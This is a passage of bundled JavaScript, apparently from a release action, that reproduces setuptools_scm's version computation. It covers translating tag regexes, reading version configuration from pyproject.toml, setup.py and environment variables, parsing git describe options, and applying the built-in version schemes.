                out += inClass ? fail('\\A inside a character class') : '^';
            else if (next === 'Z')
                out += inClass ? fail('\\Z inside a character class') : '$';
            else if (/[1-9]/.test(next) && !inClass)
                out += `\\${next}`;
            else if (/[0-9a-zA-Z]/.test(next))
                fail(`the escape \\${next}`);
            else
                out += SYNTAX.has(next) ? `\\${next}` : next;
            continue;
        }
        if (inClass) {
            if (c === ']')
                inClass = false;
            if (c === '[')
                out += '\\[';
            else
                out += c;
            i++;
            continue;
        }
        if (c === '[') {
            inClass = true;
            out += c;
            i++;
            // A ] right after [ or [^ is a literal in Python.
            if (source[i] === '^') {
                out += '^';
                i++;
            }
            if (source[i] === ']') {
                out += '\\]';
                i++;
            }
            continue;
        }
        if (c === '(' && source[i + 1] === '?') {
            const rest = source.slice(i + 2);
            const named = /^P<([A-Za-z_][A-Za-z0-9_]*)>/.exec(rest);
            if (named) {
                out += `(?<${named[1]}>`;
                i += 2 + named[0].length;
            }
            else if (/^P=([A-Za-z_][A-Za-z0-9_]*)\)/.test(rest)) {
                const name = /^P=([A-Za-z_][A-Za-z0-9_]*)\)/.exec(rest)[1];
                out += `\\k<${name}>`;
                i += 2 + name.length + 3;
            }
            else if (/^(:|=|!|<=|<!)/.test(rest)) {
                const token = /^(:|=|!|<=|<!)/.exec(rest)[1];
                out += `(?${token}`;
                i += 2 + token.length;
            }
            else {
                fail(`the group (?${rest.slice(0, 2)}`);
            }
            continue;
        }
        if (c === '{' && source[i + 1] === ',') {
            // Python's {,n} is {0,n}; JavaScript refuses it with the u flag.
            out += '{0,';
            i += 2;
            continue;
        }
        if ((c === '*' || c === '+' || c === '?' || c === '}') && source[i + 1] === '+')
            fail('a possessive quantifier');
        // Python's . stops only at \n; JavaScript's at \r, \u2028 and \u2029 too.
        out += c === '.' ? '[^\\n]' : c;
        i++;
    }
    if (inClass)
        fail('an unclosed character class');
    let regex;
    try {
        regex = new RegExp(`^(?:${out})`, flags);
    }
    catch (error) {
        throw new Error(`${JSON.stringify(source)} is not a valid regular expression here (${error.message})`, {
            cause: error
        });
    }
    const groups = new RegExp(`${regex.source}|`, flags).exec('').length - 1;
    const named = /\(\?<version>/.test(out);
    if (groups === 0)
        throw new Error(`${JSON.stringify(source)} has no group; setuptools_scm takes the version from its only group or the group named "version"`);
    if (groups > 1 && !named)
        throw new Error(`${JSON.stringify(source)} has ${groups} groups and none named "version"; name the version's group (?P<version>…)`);
    return { source, regex, group: groups === 1 ? 1 : 'version', prefix: literalPrefix(source) };
}
/** The version part of a tag, as setuptools_scm's _parse_version_tag finds it (re.match: anchored at the start only). */
function matchTag(tagRegex, tag) {
    const m = tagRegex.regex.exec(tag);
    if (!m)
        return undefined;
    const version = tagRegex.group === 'version' ? m.groups?.version : m[1];
    return version || undefined;
}
/** The literal text a pattern demands at the start: `^api-(…)` → `api-`. */
function literalPrefix(source) {
    const m = /^\^?((?:[A-Za-z0-9_\-/@]|\\[.\-_/@])*)(?=\(|$)/.exec(source);
    if (!m)
        return '';
    // A quantifier right after the literal would make its last character optional.
    return m[1].replace(/\\(.)/g, '$1');
}


/***/ }),

/***/ 27215:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Ei: () => (/* binding */ describeAdmits),
/* harmony export */   RQ: () => (/* binding */ tagVersion),
/* harmony export */   Z4: () => (/* binding */ defaultRules),
/* harmony export */   bp: () => (/* binding */ versionFromTag),
/* harmony export */   w8: () => (/* binding */ tagRules)
/* harmony export */ });
/* harmony import */ var _glob_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(24395);
/* harmony import */ var _pep440_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(42422);
/* harmony import */ var _tag_regex_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(96999);
/* harmony import */ var _version_config_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(45710);
// Which tags are this package's versions, and what version each names: the
// project's tag_regex, normalize setting and describe patterns, narrowed to a
// tag prefix in a monorepo.




let defaultRules_;
/** setuptools_scm's defaults; compiled on first use (its Unicode classes cost milliseconds a pull request run never needs). */
function defaultRules() {
    defaultRules_ ??= {
        tagRegex: (0,_tag_regex_js__WEBPACK_IMPORTED_MODULE_1__/* .compileTagRegex */ .JS)(_tag_regex_js__WEBPACK_IMPORTED_MODULE_1__/* .DEFAULT_TAG_REGEX */ .$F),
        normalize: true,
        prefix: '',
        describe: _version_config_js__WEBPACK_IMPORTED_MODULE_2__/* .DEFAULT_DESCRIBE */ .Aq,
        strip: ''
    };
    return defaultRules_;
}
/** The rules from the version configuration and the tag-prefix input. */
function tagRules(config, tagPrefix) {
    const implied = config.tagPrefix || config.tagRegex.prefix;
    const problems = [];
    if (tagPrefix && implied && tagPrefix !== implied) {
        problems.push(`Input "tag-prefix" is "${tagPrefix}", but the project's tag_regex only admits tags starting with "${implied}"; make them agree (or leave tag-prefix empty).`);
    }
    const prefix = tagPrefix || implied;
    let describe = config.describe;
    // The default --match admits every package's tags; narrow it to this package's.
    if (prefix && describe.match.length === 1 && describe.match[0] === _version_config_js__WEBPACK_IMPORTED_MODULE_2__/* .DEFAULT_DESCRIBE */ .Aq.match[0]) {
        describe = { ...describe, match: [`${(0,_glob_js__WEBPACK_IMPORTED_MODULE_3__/* .escapeGlob */ .y)(prefix)}*[0-9]*`] };
    }
    return {
        rules: { tagRegex: config.tagRegex, normalize: config.normalize, prefix, describe, strip: config.tagPrefix },
        problems
    };
}
/**
 * The version a tag names for this package, as setuptools_scm holds it (str() of
 * its version: normalized, or as written with normalize = false); undefined for
 * a tag that is not one of this package's versions.
 */
function tagVersion(tag, rules = defaultRules()) {
    if (rules.prefix && !tag.startsWith(rules.prefix))
        return undefined;
    // vcs-versioning strips tag.prefix (where the tag has it) before the regex reads the rest.
    const raw = (0,_tag_regex_js__WEBPACK_IMPORTED_MODULE_1__/* .matchTag */ ._f)(rules.tagRegex, rules.strip && tag.startsWith(rules.strip) ? tag.slice(rules.strip.length) : tag);
    if (raw === undefined)
        return undefined;
    const parsed = (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .parseVersion */ .ot)(raw);
    if (!parsed)
        return undefined;
    return rules.normalize ? (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .formatVersion */ .qh)(parsed) : raw;
}
/** The normalized version a tag names, or undefined. */
function versionFromTag(tag, rules = defaultRules()) {
    const version = tagVersion(tag, rules);
    return version === undefined ? undefined : (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .formatVersion */ .qh)((0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .parseVersion */ .ot)(version));
}
/** Whether git describe, asked with these options, could name this tag at all. */
function describeAdmits(describe, tag) {
    if (describe.match.length && !describe.match.some(p => (0,_glob_js__WEBPACK_IMPORTED_MODULE_3__/* .globMatches */ .m)(p, tag)))
        return false;
    return !describe.exclude.some(p => (0,_glob_js__WEBPACK_IMPORTED_MODULE_3__/* .globMatches */ .m)(p, tag));
}


/***/ }),

/***/ 45710:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  Aq: () => (/* binding */ DEFAULT_DESCRIBE),
  T7: () => (/* binding */ readVersionConfig)
});

// UNUSED EXPORTS: parseDescribeCommand

// EXTERNAL MODULE: ./node_modules/smol-toml/dist/index.js + 8 modules
var dist = __webpack_require__(3292);
// EXTERNAL MODULE: ./src/versions/pep440.ts
var pep440 = __webpack_require__(42422);
// EXTERNAL MODULE: ./src/versions/pyproject.ts
var pyproject = __webpack_require__(95377);
// EXTERNAL MODULE: ./src/versions/setup-py.ts
var setup_py = __webpack_require__(71354);
;// CONCATENATED MODULE: ./src/versions/config-sources.ts
// Where a project's version settings are written, as the tool that builds it reads them: hatch-vcs's
// [tool.hatch.version], setuptools_scm's [tool.setuptools_scm] or vcs-versioning's [tool.vcs-versioning]
// (whichever the building tool reads first), with setup.py's use_scm_version={…} merged over it. Pure.


const HATCH_KEYS = ['source', 'tag-pattern', 'fallback-version', 'raw-options'];
/** Keys that do not change a version computed from git (files to write, fallbacks for missing git metadata). */
const NO_EFFECT = [
    'root',
    'relative_to',
    'write_to',
    'write_to_template',
    'version_file',
    'version_file_template',
    'fallback_version',
    'fallback_root',
    'parentdir_prefix_version',
    'dist_name',
    'search_parent_directories',
    'local_scheme',
    'write_to_source' // setuptools-scm 10: where version files go, not what the version is
];
/**
 * setup.py keys whose value may be code: those of NO_EFFECT whose value, whatever it is, leaves a version computed
 * from git as it is (where it is written, the local part, where the repository is: `__file__`, and what stands in
 * without git metadata, which a release never lacks). Not `dist_name` (it picks which SETUPTOOLS_SCM_*_FOR_<NAME>
 * applies) nor `search_parent_directories` (which repository): code there could change the version.
 */
const CODE_ALLOWED = NO_EFFECT.filter(key => !['dist_name', 'search_parent_directories'].includes(key));
/** The settings of the project, from where its building tool reads them. */
function configSource(info, setupPy) {
    const toml = info?.toml ?? {};
    const tool = (0,pyproject/* table */.tp)(toml.tool);
    const hatchVersion = (0,pyproject/* table */.tp)((0,pyproject/* table */.tp)(tool.hatch).version);
    const out = {
        tool: 'setuptools_scm',
        where: '[tool.setuptools_scm]',
        section: {},
        envPrefixes: ['SETUPTOOLS_SCM'],
        problems: [],
        notices: [],
        warnings: []
    };
    if (hatchVersion.source === 'vcs') {
        out.tool = 'hatch-vcs';
        out.where = '[tool.hatch.version] raw-options';
        out.section = { ...(0,pyproject/* table */.tp)(hatchVersion['raw-options']) };
        for (const key of Object.keys(hatchVersion).filter(k => !HATCH_KEYS.includes(k)))
            out.problems.push(`[tool.hatch.version] ${key} is not a hatch-vcs setting; remove it.`);
        if (typeof hatchVersion['tag-pattern'] === 'string' && out.section.tag_regex === undefined)
            out.section.tag_regex = hatchVersion['tag-pattern'];
        return out;
    }
    pickTable(tool, info?.requires ?? [], out);
    if (setupPy !== undefined)
        mergeSetupPy(setupPy, out);
    return out;
}
/**
 * setuptools-scm 10 reads [tool.setuptools_scm], else [tool.vcs-versioning]; vcs-versioning on its own reads its
 * table first. setuptools_scm 8 and 9 know only theirs: where the build requires one of them, the other table is
 * ignored, as the build ignores it, and a warning says so.
 */
function pickTable(tool, requires, out) {
    const scm = tool.setuptools_scm;
    const vv = tool['vcs-versioning'];
    if (vv === undefined) {
        out.section = { ...(0,pyproject/* table */.tp)(scm) };
        return;
    }
    const names = requires.map(pyproject/* requirementName */.xV);
    const scmRequirement = requires.find(r => (0,pyproject/* requirementName */.xV)(r) === 'setuptools-scm');
    const below10 = scmRequirement !== undefined && upperMajor(scmRequirement) < 10;
    if (below10) {
        out.section = { ...(0,pyproject/* table */.tp)(scm) };
        out.warnings.push(`[tool.vcs-versioning] is not read: build-system.requires has ${scmRequirement.trim()}, and only setuptools-scm 10 reads that table. ` +
            `The version follows ${scm === undefined ? "setuptools_scm's defaults" : '[tool.setuptools_scm]'}, as the build's does; move the settings to [tool.setuptools_scm] if they are meant.`);
        return;
    }
    const vvFirst = names.includes('vcs-versioning') && !names.includes('setuptools-scm');
    if (scm !== undefined && !vvFirst) {
        out.section = { ...(0,pyproject/* table */.tp)(scm) };
        out.notices.push('[tool.vcs-versioning] is not read: setuptools-scm reads [tool.setuptools_scm] first, and this project has both.');
        return;
    }
    out.tool = 'vcs-versioning';
    out.where = '[tool.vcs-versioning]';
    out.section = { ...(0,pyproject/* table */.tp)(vv) };
    out.envPrefixes = vvFirst ? ['VCS_VERSIONING'] : ['SETUPTOOLS_SCM', 'VCS_VERSIONING'];
    if (scm !== undefined)
        out.notices.push('[tool.setuptools_scm] is not read: vcs-versioning reads [tool.vcs-versioning] first, and this project has both.');
}
/** The highest major a requirement allows (`setuptools_scm<10` → 9, `~=8.1` → 8); Infinity where it sets no cap. */
function upperMajor(requirement) {
    let cap = Infinity;
    for (const m of requirement.matchAll(/(<=|<|==|~=)\s*(\d+)((?:\.\d+)*)/g)) {
        const [, op, major, rest] = m;
        // `<10` and `<10.0` allow 9 at most; `<10.1`, `<=10`, `==10.*` and `~=10.2` allow 10.
        const belowMajor = op === '<' && /^(\.0)*$/.test(rest);
        cap = Math.min(cap, Number(major) - (belowMajor ? 1 : 0));
    }
    return cap;
}
/** setuptools_scm merges use_scm_version={…} over the pyproject table: the keyword's keys win. */
function mergeSetupPy(text, out) {
    const given = (0,setup_py/* readUseScmVersion */.JN)(text);
    if (given.kind === 'code') {
        out.problems.push(`setup.py builds use_scm_version in code (use_scm_version=${config_sources_short(given.code)}), which the action cannot read without running it. ` +
            'Write it as a literal dict, or move the settings to [tool.setuptools_scm] in pyproject.toml (setuptools_scm reads both).');
        return;
    }
    if (given.kind !== 'settings')
        return;
    for (const [key, value] of Object.entries(given.settings)) {
        if (containsCode(value) && !CODE_ALLOWED.includes(key)) {
            out.problems.push(`setup.py passes ${key} in use_scm_version as Python code (${config_sources_short(codeOf(value))}), which the action cannot compute. ` +
                `Give it a literal value, or move it to [tool.setuptools_scm] in pyproject.toml, so that the action computes the same version.`);
            continue;
        }
        if (!containsCode(value))
            out.section[key] = value;
    }
    if (Object.keys(given.settings).length)
        out.where = `${out.where} with setup.py's use_scm_version`;
}
function containsCode(value) {
    if ((0,setup_py/* isCode */._m)(value))
        return true;
    if (Array.isArray(value))
        return value.some(containsCode);
    if (value !== null && typeof value === 'object')
        return Object.values(value).some(containsCode);
    return false;
}
function codeOf(value) {
    return (0,setup_py/* isCode */._m)(value) ? value.code : JSON.stringify(value);
}
function config_sources_short(code) {
    const line = code.replace(/\s+/g, ' ');
    return line.length > 60 ? `${line.slice(0, 57)}…` : line;
}

// EXTERNAL MODULE: ./src/versions/tag-regex.ts
var tag_regex = __webpack_require__(96999);
// EXTERNAL MODULE: ./src/versions/version-schemes.ts
var version_schemes = __webpack_require__(30416);
// EXTERNAL MODULE: ./src/versions/words.ts
var versions_words = __webpack_require__(13880);
;// CONCATENATED MODULE: ./src/versions/version-config.ts
// The project's own version configuration: [tool.setuptools_scm], hatch-vcs's
// [tool.hatch.version], and setuptools_scm's environment variables. Everything
// that changes the version is honoured exactly or refused with the setting's name.







const DEFAULT_DESCRIBE = { match: ['*[0-9]*'], exclude: [], tags: true, firstParent: false };
const HONOURED = ['version_scheme', 'tag_regex', 'git_describe_command', 'normalize', 'tag', 'scm'];
/** setuptools-scm 10's names for two schemes (vcs-versioning 2), and what they are in setuptools_scm 8 and 9. */
const SCHEME_ALIASES = {
    'semver-pep440': 'python-simplified-semver',
    'semver-pep440-release-branch': 'release-branch-semver'
};
/** scm.git.pre_parse values: what happens to a shallow clone or missing submodules, never the version itself. */
const PRE_PARSE = ['warn_on_shallow', 'fail_on_shallow', 'fetch_on_shallow', 'fail_on_missing_submodules'];
const KNOWN_VERSION_CLASSES = ['packaging.version.Version', 'setuptools_scm.version.PkgVersion'];
const SUPPORTED = `The action computes versions with setuptools_scm's built-in schemes (${version_schemes/* SCHEMES */.dz.join(', ')}), tag_regex, ` +
    'git_describe_command (git describe with --tags, --match, --exclude, --first-parent, --long, --dirty, --abbrev), normalize and the SETUPTOOLS_SCM_* variables';
/** Read the version configuration from the project's parsed files and the environment. */
function readVersionConfig(info, setupPy, env) {
    const source = configSource(info, setupPy);
    const { where, section } = source;
    const problems = source.problems.map(p => (p.startsWith('[tool.hatch.version]') ? `${p} ${SUPPORTED}.` : p));
    const notices = [...source.notices];
    const warnings = [...source.warnings];
    const toml = info?.toml ?? {};
    const tool = (0,pyproject/* table */.tp)(toml.tool);
    const isHatchVcs = source.tool === 'hatch-vcs';
    const distName = (typeof section.dist_name === 'string' ? section.dist_name : undefined) ?? info?.name;
    // Configuration.from_file merges SETUPTOOLS_SCM_OVERRIDES(_FOR_<NAME>) over the section.
    if (!isHatchVcs) {
        const overrides = namedEnv(env, source.envPrefixes, 'OVERRIDES', distName);
        if (overrides) {
            try {
                const data = overrides.value.trimStart().startsWith('{')
                    ? (0,pyproject/* table */.tp)((0,dist/* parse */.qg)(`x = ${overrides.value}`).x)
                    : (0,dist/* parse */.qg)(overrides.value);
                Object.assign(section, data);
                notices.push(`${overrides.variable} changes the version settings: ${Object.keys(data).join(', ')}.`);
            }
            catch (error) {
                problems.push(`${overrides.variable} is not TOML (${error.message.split('\n')[0]}); give a table such as {version_scheme = "post-release"}.`);
            }
        }
    }
    const settings = [];
    for (const [key, value] of Object.entries(section)) {
        if (HONOURED.includes(key) || NO_EFFECT.includes(key))
            continue;
        if (key === 'version_cls' && typeof value === 'string' && KNOWN_VERSION_CLASSES.includes(value))
            continue;
        const why = key === 'parse'
            ? 'a custom parse function cannot be computed by the action'
            : key === 'version_cls'
                ? 'a custom version class cannot be computed by the action'
                : 'setuptools_scm does not know this setting either (a typo?)';
        problems.push(`${where} ${key}: ${why}. ${SUPPORTED}; remove the setting, or release with your own workflow.`);
    }
    let scheme = 'guess-next-dev';
    const rawScheme = section.version_scheme;
    if (rawScheme !== undefined) {
        // A list is tried in order until a scheme answers; the built-in schemes always answer.
        const first = Array.isArray(rawScheme) ? rawScheme[0] : rawScheme;
        const known = typeof first === 'string' ? (SCHEME_ALIASES[first] ?? first) : undefined;
        if (known !== undefined && version_schemes/* SCHEMES */.dz.includes(known)) {
            scheme = known;
            if (scheme !== 'guess-next-dev')
                settings.push(`version_scheme ${String(first)}`);
        }
        else if (first === 'towncrier-fragments') {
            problems.push(`${where} version_scheme = "towncrier-fragments": setuptools-scm 10 bumps by the changelog fragments in the work tree, which the action does not read. Use another scheme (guess-next-dev, semver-pep440, …), or release with your own workflow.`);
        }
        else {
            problems.push(`${where} version_scheme = ${JSON.stringify(rawScheme)}: only setuptools_scm's built-in schemes can be computed exactly (${version_schemes/* SCHEMES */.dz.join(', ')}). Use one of them, or release with your own workflow.`);
        }
    }
    const local = section.local_scheme;
    if (local !== undefined && local !== 'no-local-version' && local !== 'no-local-version-strict') {
        notices.push(`${where} local_scheme = ${JSON.stringify(local)}: a package index refuses local versions (+…), so the action always drops the local part.`);
    }
    let normalize = true;
    if (section.normalize !== undefined) {
        if (typeof section.normalize !== 'boolean')
            problems.push(`${where} normalize = ${JSON.stringify(section.normalize)}: use true or false.`);
        else if (!section.normalize) {
            normalize = false;
            settings.push('normalize false');
        }
    }
    // setuptools-scm 10 (vcs-versioning 2): [tool.setuptools_scm.tag] prefix, strict, regex and
    // [tool.setuptools_scm.scm.git] describe_command, pre_parse; the old top-level names are its deprecated aliases.
    const tag = tableSetting(section.tag, `${where} tag`, ['prefix', 'strict', 'regex'], problems);
    const git = tableSetting(tableSetting(section.scm, `${where} scm`, ['git'], problems).git, `${where} scm.git`, ['describe_command', 'pre_parse'], problems);
    if (git.pre_parse !== undefined && !PRE_PARSE.includes(String(git.pre_parse)))
        problems.push(`${where} scm.git.pre_parse = ${JSON.stringify(git.pre_parse)}: use one of ${PRE_PARSE.join(', ')}.`);
    const regexSetting = either(section, 'tag_regex', tag, 'tag.regex', where, problems);
    let tagRegex = (0,tag_regex/* compileTagRegex */.JS)(tag_regex/* DEFAULT_TAG_REGEX */.$F);
    if (regexSetting && regexSetting.value !== '') {
        if (typeof regexSetting.value !== 'string') {
            problems.push(`${where} ${regexSetting.name} must be a string.`);
        }
        else {
            try {
                tagRegex = (0,tag_regex/* compileTagRegex */.JS)(regexSetting.value);
                settings.push(`${regexSetting.name} ${regexSetting.value}`);
            }
            catch (error) {
                problems.push(`${where} ${regexSetting.name}: ${error.message}. Write it with plain groups, classes and quantifiers, and name the version's group (?P<version>…).`);
            }
        }
    }
    let tagPrefix = '';
    if (tag.prefix !== undefined) {
        if (typeof tag.prefix !== 'string')
            problems.push(`${where} tag.prefix must be a string.`);
        else if (tag.prefix) {
            tagPrefix = tag.prefix;
            settings.push(`tag.prefix ${tag.prefix}`);
        }
    }
    let strict = false;
    if (tag.strict !== undefined) {
        if (typeof tag.strict !== 'boolean')
            problems.push(`${where} tag.strict = ${JSON.stringify(tag.strict)}: use true or false.`);
        else if (tag.strict) {
            strict = true;
            settings.push('tag.strict true');
        }
    }
    // vcs-versioning's describe_match_glob: the prefix, then a digit (strict: a digit, a dot, a digit).
    let describe = tagPrefix || strict
        ? { ...DEFAULT_DESCRIBE, match: [`${tagPrefix}${strict ? '*[0-9]*.*[0-9]*' : '*[0-9]*'}`] }
        : DEFAULT_DESCRIBE;
    const describeSetting = either(section, 'git_describe_command', git, 'scm.git.describe_command', where, problems);
    if (describeSetting) {
        // An explicit command brings its own --match: tag.strict has no effect then, tag.prefix is still stripped.
        const parsed = parseDescribeCommand(describeSetting.value);
        if (typeof parsed === 'string') {
            problems.push(`${where} ${describeSetting.name}: ${parsed}. ${SUPPORTED}.`);
        }
        else {
            describe = parsed;
            const text = Array.isArray(describeSetting.value)
                ? describeSetting.value.join(' ')
                : String(describeSetting.value);
            settings.push(`${describeSetting.name} ${text}`);
        }
    }
    const pretendVar = namedEnv(env, source.envPrefixes, 'PRETEND_VERSION', distName);
    let pretend;
    if (pretendVar) {
        const version = (0,pep440/* normalizeVersion */.Qj)(pretendVar.value);
        if (!version)
            problems.push(`${pretendVar.variable} is "${pretendVar.value}", which is not a PEP 440 version; unset it or give a version.`);
        else {
            pretend = { variable: pretendVar.variable, version: pretendVar.value };
            settings.push(`${pretendVar.variable}=${pretendVar.value}`);
        }
    }
    if ((0,pyproject/* table */.tp)(tool['poetry-dynamic-versioning']).enable === true) {
        notices.push("[tool.poetry-dynamic-versioning] is enabled: the action versions by setuptools_scm's rules (guess-next-dev) and pins that version for the build, not by poetry-dynamic-versioning's own settings.");
    }
    if ((0,pyproject/* table */.tp)((0,pyproject/* table */.tp)(tool.pdm).version).source === 'scm') {
        notices.push('[tool.pdm.version] source = "scm": the action versions by setuptools_scm\'s rules and pins that version for the build (PDM_BUILD_SCM_VERSION).');
    }
    // Which setuptools_scm builds the project: the lower bound of its requirement. 8 and 9 compute the same versions
    // once the local part is dropped (which the action always does); the plan names the major all the same.
    const requires = (0,pyproject/* table */.tp)(toml['build-system']).requires;
    const requirement = (Array.isArray(requires) ? requires : [])
        .map(String)
        .find(r => /^\s*setuptools[-_.]scm\b/i.test(r));
    const lower = requirement && /(?:>=|==|~=)\s*(\d+)/.exec(requirement);
    const major = lower ? Number(lower[1]) : undefined;
    const root = typeof section.root === 'string' ? section.root : '.';
    const searchParents = section.search_parent_directories === true;
    return {
        config: {
            tool: source.tool,
            scheme,
            tagRegex,
            describe,
            normalize,
            major,
            tagPrefix,
            pretend,
            settings,
            root,
            searchParents
        },
        problems,
        notices,
        warnings
    };
}
/** A table setting (tag, scm, scm.git), with any key it does not know refused by name. */
function tableSetting(value, name, keys, problems) {
    if (value === undefined)
        return {};
    if (typeof value !== 'object' || value === null || Array.isArray(value)) {
        problems.push(`${name} must be a table (${keys.join(', ')}).`);
        return {};
    }
    const t = value;
    for (const key of Object.keys(t).filter(k => !keys.includes(k)))
        problems.push(`${name}.${key}: setuptools-scm 10 has no such setting (it knows ${keys.join(', ')}); remove it.`);
    return t;
}
/** One setting under its old or its new name; both at once is refused, as setuptools-scm 10 refuses it. */
function either(old, oldName, table, newName, where, problems) {
    if (old[oldName] !== undefined && table[newName.split('.').pop()] !== undefined) {
        problems.push(`${where} sets both ${oldName} and ${newName}; keep ${newName} (${oldName} is its deprecated name).`);
        return undefined;
    }
    if (old[oldName] !== undefined)
        return { name: oldName, value: old[oldName] };
    const value = table[newName.split('.').pop()];
    return value === undefined ? undefined : { name: newName, value };
}
/** setuptools_scm's read_named_env, for each prefix in turn: the _FOR_<NAME> variable first, then the plain one. */
function namedEnv(env, prefixes, name, distName) {
    for (const prefix of prefixes) {
        if (distName) {
            const variable = `${prefix}_${name}_FOR_${distName
                .replace(/[-_.]+/g, '-')
                .replace(/-/g, '_')
                .toUpperCase()}`;
            if (env[variable] !== undefined)
                return { variable, value: env[variable] };
        }
        const variable = `${prefix}_${name}`;
        if (env[variable])
            return { variable, value: env[variable] };
    }
    return undefined;
}
/** The git describe options of a git_describe_command, or what cannot be honoured in it. */
function parseDescribeCommand(command) {
    const words = Array.isArray(command)
        ? command.map(String)
        : typeof command === 'string'
            ? (0,versions_words/* splitArgs */.sG)(command)
            : undefined;
    if (!words)
        return `${JSON.stringify(command)} is neither a command line nor a list of words`;
    if (words[0] !== 'git' || words[1] !== 'describe')
        return `"${words.join(' ')}" is not a git describe command`;
    const options = { match: [], exclude: [], tags: false, firstParent: false };
    for (let i = 2; i < words.length; i++) {
        const word = words[i];
        const valued = /^--(match|exclude)(?:=(.*))?$/s.exec(word);
        if (valued) {
            const value = valued[2] ?? words[++i];
            if (value === undefined)
                return `${word} needs a pattern`;
            options[valued[1]].push(value);
        }
        else if (word === '--tags')
            options.tags = true;
        else if (word === '--first-parent')
            options.firstParent = true;
        else if (word === '--long' || /^--dirty(=.*)?$/.test(word) || /^--abbrev(=\d+)?$/.test(word))
            continue;
        else
            return `git describe's ${word} changes what setuptools_scm parses, and the action cannot honour it`;
    }
    return options;
}


/***/ }),

/***/ 30416:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   At: () => (/* binding */ SchemeError),
/* harmony export */   E2: () => (/* binding */ computeVersion),
/* harmony export */   dz: () => (/* binding */ SCHEMES)
/* harmony export */ });
/* harmony import */ var _pep440_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(42422);
/* harmony import */ var _tag_regex_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(96999);
// setuptools_scm 8's built-in version schemes, computed exactly as it computes
// them (setuptools_scm/version.py and _modify_version.py). The local part is
// never computed: an index refuses it, so the action always drops it.


const SCHEMES = [
    'guess-next-dev',
    'post-release',
    'no-guess-dev',
    'release-branch-semver',
    'python-simplified-semver',
    'only-version',
    'calver-by-date'
];
/** Where setuptools_scm itself raises. */
class SchemeError extends Error {
}
function applyScheme(scheme, s) {
    const warnings = [];
    const exact = s.distance === 0;
    const dev = (guessed) => `${guessed}.dev${s.distance}`;
    let version;
    switch (scheme) {
        case 'guess-next-dev':
            version = exact ? s.tag : dev(guessNextVersion(s));
            break;
        case 'post-release':
            version = exact ? s.tag : `${s.tag}.post${s.distance}`;
            break;
        case 'no-guess-dev':
            version = exact ? s.tag : dev(bumpDev(s) ?? addPost(stripLocal(s.tag)));
            break;
        case 'only-version':
            version = s.tag;
            break;
        case 'python-simplified-semver':
            if (exact)
                version = simpleSemver(s, 3, false);
            else
                version = dev(simpleSemver(s, s.branch.includes('feature') ? 2 : 3, true));
            break;
        case 'release-branch-semver':
            version = exact ? s.tag : dev(isReleaseBranchOf(s) ? guessNextVersion(s) : simpleSemver(s, 2, true));
            break;
        case 'calver-by-date':
            version = calverByDate(s, warnings);
            break;
    }
    return { version, warnings };
}
function stripLocal(version) {
    return version.split('+')[0];
}
/** _bump_dev: `1.2.dev0` → `1.2`. setuptools_scm refuses `.devN` with N > 0; the action counts on from N instead. */
function bumpDev(s) {
    const version = stripLocal(s.tag);
    const at = version.lastIndexOf('.dev');
    if (at < 0)
        return undefined;
    const tail = version.slice(at + 4);
    if (tail !== '0')
        throw new CountOn(`${version.slice(0, at)}.dev${BigInt(tail) + BigInt(s.distance)}`);
    return version.slice(0, at);
}
/** Carries the counted-on version out of the scheme: it replaces the whole result. */
class CountOn {
    version;
    constructor(version) {
        this.version = version;
    }
}
/** _bump_regex: the last number, plus one. */
function bumpRegex(version) {
    const m = /^([\s\S]*?)(\d+)$/.exec(version);
    if (!m)
        throw new SchemeError(`${version} does not end with a number to bump`);
    return `${m[1]}${BigInt(m[2]) + 1n}`;
}
function guessNextVersion(s) {
    return bumpDev(s) ?? bumpRegex(stripLocal(s.tag));
}
function addPost(version) {
    if (version.includes('post'))
        throw new SchemeError(`${version} already is a post release; setuptools_scm's no-guess-dev refuses to guess the update`);
    return `${version}.post1`;
}
function simpleSemver(s, retain, increment) {
    const parsed = (0,_pep440_js__WEBPACK_IMPORTED_MODULE_0__/* .parseVersion */ .ot)(s.tag);
    if (!parsed)
        throw new SchemeError(`${s.tag} can't be parsed as numeric version`);
    const parts = parsed.release.slice(0, retain);
    while (parts.length < retain)
        parts.push(0n);
    if (increment)
        parts[parts.length - 1] += 1n;
    while (parts.length < 3)
        parts.push(0n);
    return parts.join('.');
}
/** release-branch-semver: on a branch named like the tag's major.minor (`release/1.2`), only a patch bump. */
function isReleaseBranchOf(s) {
    let branchVersion = (0,_tag_regex_js__WEBPACK_IMPORTED_MODULE_1__/* .matchTag */ ._f)(s.tagRegex, s.branch.split('/').pop() ?? '');
    if (branchVersion === undefined)
        return false;
    if (branchVersion.startsWith('v'))
        branchVersion = branchVersion.slice(1);
    const upToMinor = (v) => v.split('.').slice(0, 2).join('.');
    return upToMinor(branchVersion) === upToMinor(s.tag);
}
const DATE_REGEX = /^(?<date>(?<prefix>[vV]?)(?<year>\d{2}|\d{4})(?:\.\d{1,2}){2})(?:\.(?<patch>\d*))?$/;
function calverByDate(s, warnings) {
    if (s.distance === 0)
        return s.tag;
    if (s.branch.startsWith('release-')) {
        const branchVersion = (0,_tag_regex_js__WEBPACK_IMPORTED_MODULE_1__/* .matchTag */ ._f)(s.tagRegex, s.branch.split('-').pop() ?? '');
        if (branchVersion !== undefined && DATE_REGEX.test(branchVersion))
            return branchVersion;
    }
    return `${guessNextDateVersion(s, warnings)}.dev${s.distance}`;
}
function guessNextDateVersion(s, warnings) {
    const match = DATE_REGEX.exec(s.tag)?.groups;
    let format;
    let tagDate;
    if (!match) {
        warnings.push(`${s.tag} is no date version (YYYY.MM.DD), so calver-by-date counts from today's date.`);
        format = { prefix: '', longYear: false };
        tagDate = s.today;
    }
    else {
